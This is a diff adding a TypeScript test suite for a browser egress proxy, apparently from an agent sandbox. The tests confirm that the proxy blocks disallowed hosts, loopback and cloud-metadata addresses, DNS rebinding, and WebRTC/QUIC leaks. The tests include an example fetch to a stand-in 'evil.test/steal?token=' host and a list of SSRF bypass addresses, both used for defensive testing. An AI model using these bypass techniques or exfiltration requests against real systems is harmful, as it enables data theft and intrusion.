@@ -1,0 +1,222 @@
+import { startEgress, type EgressHouse, type Resolve } from '@pilothouse/infra-egress';
+import { readPatterns, type EgressRules, type Pass, type Surface } from '@pilothouse/core';
+import { BrowserHost } from '@pilothouse/surface-browser';
+import type { Refusal } from '@pilothouse/contract';
+import { createSocket, type Socket as Udp } from 'node:dgram';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { WebSocketServer } from 'ws';
+
+const log = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
+const context = () => ({ signal: new AbortController().signal, deadline: performance.now() + 20_000, log });
+
+/** What a page is: its script writes what came of it into the title. */
+const page = (script: string) => `<!doctype html><title>...</title><body><script type="module">
+  const told = (text) => { document.title = 'done: ' + text; };
+  ${script}
+</script>`;
+
+let site: Server;
+let port: number;
+let udp: Udp;
+let packets = 0;
+let folder: string;
+let script = '';
+const asked: string[] = [];
+beforeAll(async () => {
+  site = createServer(({ url = '', headers }, answer) => {
+    asked.push(`${headers.host}${url}`);
+    answer.setHeader('access-control-allow-origin', '*');
+    if (url.startsWith('/page')) answer.setHeader('content-type', 'text/html').end(page(script));
+    else answer.end('there');
+  });
+  new WebSocketServer({ server: site }).on('connection', (socket) => {
+    socket.on('message', (data) => socket.send(`echo ${String(data)}`));
+  });
+  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
+  port = (site.address() as AddressInfo).port;
+  udp = createSocket('udp4');
+  udp.on('message', () => (packets += 1));
+  await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
+  folder = await mkdtemp(join(tmpdir(), 'egress-'));
+});
+afterAll(async () => {
+  site.close();
+  udp.close();
+  await rm(folder, { recursive: true, force: true });
+});
+
+const closing: (() => Promise<unknown>)[] = [];
+afterEach(async () => {
+  for (const close of closing.splice(0).reverse()) await close();
+});
+beforeEach(() => {
+  asked.length = 0;
+  packets = 0;
+});
+
+interface Opened {
+  readonly surface: Surface;
+  readonly refused: Refusal[];
+  readonly pass: Pass;
+}
+
+/** A surface behind a gate; names are all at this machine unless said otherwise. */
+async function open(rules: Partial<EgressRules>, resolve: Resolve = async () => ['127.0.0.1']): Promise<Opened> {
+  const egress: EgressHouse = startEgress({ resolve });
+  const host = new BrowserHost({ egress });
+  closing.push(
+    () => egress.close(),
+    () => host.close(),
+  );
+  await host.warm(context());
+  const refused: Refusal[] = [];
+  const pass: Pass = {
+    rules: { lists: [], private: readPatterns(['private']), ...rules },
+    upstream: async () => null,
+    signal: new AbortController().signal,
+    mayAct: () => true,
+    untilMayAct: async () => undefined,
+    onRefused: (refusal) => refused.push(refusal),
+    onFailed: () => {},
+  };
+  return { surface: await host.open({ folder, egress: pass }, context()), refused, pass };
+}
+
+const act = () => ({
+  ...context(),
+  guard: () => {},
+  reveal: async (text: string) => text,
+  file: async (name: string) => name,
+});
+const go = (surface: Surface, url: string) => surface.act({ action: 'navigate', url }, act());
+
+/** Opens a page with a script, and what the script told. */
+async function told({ surface }: Opened, text: string, host = 'shop.test'): Promise<string> {
+  script = text;
+  await go(surface, `http://${host}:${port}/page`);
+  await surface.expect({ title: 'done: ' }, context());
+  return (await surface.anchors(context())).title.slice('done: '.length);
+}
+
+const list = (...patterns: string[]) => ({ lists: [{ by: 'project' as const, rules: readPatterns(patterns) }] });
+
+test('a page of an allowed host opens; frames, fetches and sockets elsewhere are refused and told', async () => {
+  const opened = await open(list('shop.test'));
+  const got = await told(
+    opened,
+    `const tried = await Promise.all([
+       fetch('http://shop.test:${port}/data').then((r) => r.text(), () => 'refused'),
+       fetch('http://evil.test:${port}/steal?token=1').then((r) => r.text(), () => 'refused'),
+       new Promise((resolve) => {
+         const socket = new WebSocket('ws://shop.test:${port}/');
+         socket.onopen = () => socket.send('hi');
+         socket.onmessage = ({ data }) => resolve(data);
+         socket.onerror = () => resolve('refused');
+       }),
+       new Promise((resolve) => {
+         const socket = new WebSocket('ws://evil.test:${port}/');
+         socket.onopen = () => resolve('open');
+         socket.onerror = () => resolve('refused');
+       }),
+     ]);
+     told(tried.join());`,
+  );
+  expect(got).toBe('there,refused,echo hi,refused');
+  expect(new Set(opened.refused.map(({ host, rule }) => `${host} ${rule}`))).toEqual(new Set(['evil.test project']));
+  expect(asked.every((one) => one.startsWith('shop.test:'))).toBe(true);
+});
+
+test('the browser asks nobody what the fields of a form are', async () => {
+  const opened = await open(list('shop.test'));
+  const got = await told(
+    opened,
+    `document.body.innerHTML = '<form><input name=user><input name=pw type=password><input name=email type=email></form>';
+     document.querySelector('input').focus();
+     // It would be asked once the form was looked at: in a later frame.
+     for (let frames = 0; frames < 60; frames += 1) await new Promise(requestAnimationFrame);
+     told('done');`,
+  );
+  expect(got).toBe('done');
+  expect(opened.refused).toEqual([]);
+});
+
+test('opening a refused page fails', async () => {
+  const { surface, refused } = await open(list('shop.test'));
+  await expect(go(surface, `http://evil.test:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+  await expect(go(surface, `https://evil.test:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+  expect(new Set(refused.map(({ host, port: at, rule }) => `${host} ${at === port} ${rule}`))).toEqual(
+    new Set(['evil.test true project']),
+  );
+  expect(asked).toEqual([]);
+});
+
+test.each(['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '2130706433', '169.254.169.254', '[::ffff:127.0.0.1]'])(
+  'the browser does not go to %s past the proxy',
+  async (host) => {
+    const { surface, refused } = await open({ private: [] });
+    await expect(go(surface, `http://${host}:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+    expect(refused[0]).toMatchObject({ port, rule: 'private-address' });
+    expect(asked).toEqual([]);
+  },
+);
+
+test('a page whose name is bound anew to this machine reaches nothing there', async () => {
+  let times = 0;
+  // The page itself is let through as if it were on the internet; the second answer is inside.
+  const resolve: Resolve = async (host) => (host === 'sub.rebind.test' && times++ > 0 ? ['127.0.0.1'] : ['127.0.0.2']);
+  const outside = createServer((_asked, answer) => {
+    answer.setHeader('content-type', 'text/html').setHeader('connection', 'close').end(page(script));
+  });
+  await new Promise<void>((done) => outside.listen(port, '127.0.0.2', done));
+  closing.push(async () => outside.close());
+  const opened = await open({ private: readPatterns(['127.0.0.2']) }, resolve);
+  expect(
+    await told(
+      opened,
+      `const tries = [];
+       for (let i = 0; i < 5; i += 1) tries.push(await fetch('/inside?' + i).then((r) => r.text(), () => 'refused'));
+       told(String(tries.some((text) => text === 'there')));`,
+      'sub.rebind.test',
+    ),
+  ).toBe('false');
+  expect(asked).toEqual([]);
+});
+
+test('no packet leaves past the proxy: neither WebRTC nor QUIC', async () => {
+  const opened = await open({});
+  const stun = udp.address().port;
+  const got = await told(
+    opened,
+    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }, { urls: 'stun:localhost:${stun}' }] });
+     const found = [];
+     peer.onicecandidate = ({ candidate }) => { if (candidate?.candidate) found.push(candidate.candidate); };
+     peer.createDataChannel('x');
+     await peer.setLocalDescription(await peer.createOffer());
+     await new Promise((resolve) => {
+       peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
+       setTimeout(resolve, 4000);
+     });
+     let quic = 'none';
+     if (globalThis.WebTransport) quic = await new WebTransport('https://127.0.0.1:${stun}/').ready.then(() => 'open', () => 'refused');
+     told([found.filter((text) => / udp /i.test(text)).length, quic].join());`,
+    'localhost',
+  );
+  expect(got).toMatch(/^0,(refused|none)$/);
+  expect(packets).toBe(0);
+});
+
+test('a surface without rules reaches nothing, and its gate is gone with it', async () => {
+  const egress = startEgress({ resolve: async () => ['127.0.0.1'] });
+  const host = new BrowserHost({ egress });
+  closing.push(
+    () => egress.close(),
+    () => host.close(),
+  );
+  const surface = await host.open({ folder }, context());
+  await expect(go(surface, `http://shop.test:${port}/page`)).rejects.toMatchObject({ code: 'NAVIGATION_FAILED' });
+  expect(asked).toEqual([]);
+});
